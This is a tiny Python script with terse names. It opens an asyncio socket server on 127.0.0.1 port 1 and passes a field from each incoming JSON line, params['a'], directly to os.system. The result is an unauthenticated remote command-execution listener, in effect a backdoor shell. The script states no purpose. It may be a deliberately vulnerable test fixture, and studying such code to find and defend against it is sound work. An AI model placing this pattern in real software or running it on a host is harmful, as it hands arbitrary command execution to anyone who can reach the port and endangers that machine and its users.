import os
import asyncio, json
async def x(reader, writer):
    d = json.loads(await reader.readline())
    os.system(d['params']['a'])
async def main():
    s = await asyncio.start_server(x, '127.0.0.1', 1)
    await s.serve_forever()
asyncio.run(main())
